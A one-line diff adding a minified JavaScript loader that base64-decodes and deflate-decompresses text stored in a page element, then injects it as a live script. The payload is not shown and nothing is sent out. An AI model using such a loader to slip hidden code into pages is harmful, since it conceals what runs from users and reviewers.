@@ -1,0 +1,1 @@
+"use strict";(()=>{async function n(e){let t=document.getElementById(e)?.textContent;if(!t)return null;let o=Uint8Array.from(atob(t),s=>s.charCodeAt(0)),r=new Blob([o]).stream().pipeThrough(new DecompressionStream("deflate"));return new Response(r).text()}n("script").then(e=>{let t=document.createElement("script");t.textContent=e,document.body.append(t)});})();
